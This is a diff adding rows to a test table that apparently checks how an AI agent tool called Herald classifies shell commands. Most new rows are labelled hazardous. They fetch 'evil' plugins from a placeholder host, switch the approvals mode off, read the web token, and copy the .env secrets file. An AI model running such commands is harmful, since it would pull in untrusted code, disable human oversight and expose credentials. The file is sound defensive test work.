@@ -180,6 +180,17 @@ ROWS: list[tuple[str, str, str]] = [
     ("herald sessions export abc -o ~/.herald/config.yaml", H, WRITE),
     ("dd if=/tmp/x of=/home/u/.herald/state.db", H, WRITE),
     ("find ~/.herald/cron -name '*.json' -delete", H, WRITE),
+    # an unknown tool given a control path is taken to change it
+    ("wget -P ~/.herald/plugins https://x.example/evil.py", H, WRITE),
+    ("yq -i '.approvals.mode = \"off\"' ~/.herald/config.yaml", H, WRITE),
+    ("npm install --prefix ~/.herald/plugins/x evil", H, WRITE),
+    ("git clone https://x.example/evil ~/.herald/plugins/evil", H, WRITE),
+    ("code ~/.herald/config.yaml", H, WRITE),
+    ("find . -exec herald config set approvals.mode off \\;", H, POSTURE),
+    ("perl -e 'system(q(herald web token))'", H, CODE),
+    ("ssh localhost herald web token", H, TOKEN),
+    ("watch -n 60 herald web token", H, TOKEN),
+    ("openssl enc -aes256 -in ~/.herald/.env -out /tmp/e", H, SECRET),
     # --- Herald's own code ------------------------------------------------------------------
     (f"echo 'x' >> {PACKAGE_DIR}/safety/approval.py", H, CODE),
     (f"sed -i s/hardline/allow/ {PACKAGE_DIR}/safety/commands.py", H, CODE),
@@ -249,6 +260,9 @@ ROWS: list[tuple[str, str, str]] = [
     ("heraldic --version", OK, "allow"),
     ("grep -r TODO src", OK, "allow"),
     ("cat .env.example", OK, "allow"),
+    ("git -C ~/.herald/skills log --oneline", OK, "allow"),
+    ("python ~/.herald/skills/x/scripts/run.py", OK, "allow"),
+    ("cat ~/.herald/skills/x/SKILL.md", OK, "allow"),
 ]
 
 
